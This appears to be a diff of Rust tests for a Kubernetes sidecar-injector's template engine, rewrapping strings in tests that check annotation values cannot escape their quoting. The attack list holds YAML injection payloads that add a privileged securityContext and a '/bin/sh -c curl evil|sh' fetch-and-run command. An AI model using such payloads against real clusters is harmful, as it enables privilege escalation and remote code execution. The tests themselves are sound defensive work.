@@ -8,10 +8,12 @@ use super::*;
 
 fn ctx() -> minijinja::Value {
     let pod = json!({
-        "metadata": {"annotations": {"sidecar-injector.expedia.com/some-api-key": "6feab492", "evil": "x\"\n  privileged: true"}},
+        "metadata": {"annotations": {"sidecar-injector.expedia.com/some-api-key": "6feab492",
+                                     "evil": "x\"\n  privileged: true"}},
         "spec": {"serviceAccountName": "billing"},
     });
-    let workload = json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "web", "namespace": "prod"}});
+    let workload = json!({"apiVersion": "apps/v1", "kind": "Deployment",
+                          "metadata": {"name": "web", "namespace": "prod"}});
     let values = json!({"port": 8080, "registry": "r.io"});
     context(&pod, &workload, "prod", values.as_object().unwrap())
 }
@@ -37,7 +39,10 @@ fn field_templates_keep_types_and_stay_strings() {
 #[test]
 fn whole_templates_loop_and_quote_object_values() {
     let mut t = Templates::new();
-    let text = "containers:\n- name: agent\n  image: {{ values.registry }}/agent\n  env:\n{% for k, v in annotations|items if k.startswith('sidecar-injector.expedia.com/') %}  - name: {{ k.split('/')[1] }}\n    value: {{ v }}\n{% endfor %}  - name: EVIL\n    value: {{ annotations.evil }}\n";
+    let text = "containers:\n- name: agent\n  image: {{ values.registry }}/agent\n  env:\
+                \n{% for k, v in annotations|items if k.startswith('sidecar-injector.expedia.com/') %}  \
+                - name: {{ k.split('/')[1] }}\n    value: {{ v }}\n{% endfor %}  - name: EVIL\
+                \n    value: {{ annotations.evil }}\n";
     t.add_sidecar("agent", &json!({}), Some(text), Dialect::Native)
         .unwrap();
     let parsed = t.render_whole("agent", &ctx()).unwrap().unwrap();
@@ -72,14 +77,17 @@ fn printed_values_stay_where_the_template_put_them() {
     // Flow context, quotes, a prefix: the attacks of the security review, each of which
     // once closed the template's own quotes and brackets.
     let attacks = [
-        "x'}], securityContext: {privileged: true}, command: [/bin/sh, -c, 'curl evil|sh'], ports: [{containerPort: 8080, name: 'p",
+        "x'}], securityContext: {privileged: true}, command: [/bin/sh, -c, 'curl evil|sh'], ports: [{containerPort: \
+         8080, name: 'p",
         "}], securityContext: {privileged: true}, envFrom: [{prefix: ",
         "x], securityContext: {privileged: true}, stdin: true, args: [y",
         "x\"\n  privileged: true",
         "a\n- b\nc: d",
         "&x *x !!map {} [] # c",
     ];
-    let text = "containers:\n- {name: c, image: i, args: [--level={{ a }}, x], env: [{name: A, value: '{{ a }}'}, {name: B, value: \"{{ a }}\"}, {name: C, value: {{ a }} }]}\n- name: d\n  image: i\n  args:\n  - {{ a }}\n  - x-{{ a }}-y\n  - |\n    run {{ a }}\n";
+    let text = "containers:\n- {name: c, image: i, args: [--level={{ a }}, x], env: [{name: A, value: '{{ a }}'}, \
+                {name: B, value: \"{{ a }}\"}, {name: C, value: {{ a }} }]}\n- name: d\n  image: i\n  args:\
+                \n  - {{ a }}\n  - x-{{ a }}-y\n  - |\n    run {{ a }}\n";
     let text = text.replace("{{ a }}", "{{ annotations.a }}");
     for attack in attacks {
         let out = whole(&text, attack).unwrap();
@@ -99,7 +107,9 @@ fn printed_values_stay_where_the_template_put_them() {
 
 #[test]
 fn printed_values_keep_their_types_as_whole_nodes() {
-    let text = "containers:\n- name: c\n  image: {{ values.registry }}/c:1\n  ports:\n  - containerPort: {{ values.port }}\n  - containerPort: {{ 9090 }}\n  env: {{ values.env }}\n  args: [{{ annotations.a }}, '{{ values.port }}']\n  workingDir: {{ none }}\n";
+    let text = "containers:\n- name: c\n  image: {{ values.registry }}/c:1\n  ports:\
+                \n  - containerPort: {{ values.port }}\n  - containerPort: {{ 9090 }}\n  env: {{ values.env }}\
+                \n  args: [{{ annotations.a }}, '{{ values.port }}']\n  workingDir: {{ none }}\n";
     let out = whole(text, "true").unwrap();
     assert_eq!(
         out["containers"][0],
@@ -114,7 +124,10 @@ fn printed_values_keep_their_types_as_whole_nodes() {
 
 #[test]
 fn keys_macros_and_set_blocks() {
-    let text = "{% macro env(n, v) %}- name: {{ n }}\n  value: {{ v }}\n{% endmacro %}{% set image %}i:{{ annotations.a }}{% endset %}containers:\n- name: c\n  image: {{ image }}\n  env:\n{{ env('A', annotations.a) | indent(2, true) }}\n  resources:\n    limits:\n      {{ annotations.a }}: 1\n";
+    let text = "{% macro env(n, v) %}- name: {{ n }}\n  value: {{ v }}\
+                \n{% endmacro %}{% set image %}i:{{ annotations.a }}{% endset %}containers:\n- name: c\
+                \n  image: {{ image }}\n  env:\n{{ env('A', annotations.a) | indent(2, true) }}\n  resources:\
+                \n    limits:\n      {{ annotations.a }}: 1\n";
     let out = whole(text, "x: y, z").unwrap();
     assert_eq!(
         out["containers"][0],
@@ -136,7 +149,8 @@ fn marks_in_templates_and_oversized_values_are_refused() {
         .unwrap_err();
     assert!(errs[0].message.contains("U+E000"), "{}", errs[0].message);
     // Each print is small; what they put in together is bounded like the output.
-    let text = "containers:\n- name: c\n  image: i\n  args:\n{% for i in range(40) %}  - {{ annotations.a }}\n{% endfor %}";
+    let text = "containers:\n- name: c\n  image: i\n  args:\n{% for i in range(40) %}  - {{ annotations.a }}\
+                \n{% endfor %}";
     let err = whole(text, &"x".repeat(40_000)).unwrap_err();
     assert!(err.message.contains("larger than"), "{}", err.message);
     // A template whose own text is not YAML says where, with the printed value shown
@@ -174,7 +188,8 @@ fn filters_refuse_strings_past_the_limit_before_making_them() {
         assert!(started.elapsed().as_secs() < 2, "{expr}: made first");
     }
     // Within the limit they work as minijinja's own.
-    let def = json!({"x": "{{ '%5s|%-3d'|format('a', 7) }}{{ 'a\nb'|indent(2) }}{{ 'aXb'|replace('X', '-') }}{{ 'q'.replace('q', 'r') }}"});
+    let def = json!({"x": "{{ '%5s|%-3d'|format('a', 7) }}{{ 'a\nb'|indent(2) }}{{ 'aXb'|replace('X', '-') }}\
+                           {{ 'q'.replace('q', 'r') }}"});
     t.add_sidecar("ok", &def, None, Dialect::Native).unwrap();
     let out = t.render_fields("ok", &def, &ctx()).unwrap();
     assert_eq!(out["x"], "    a|7  a\n  ba-br");
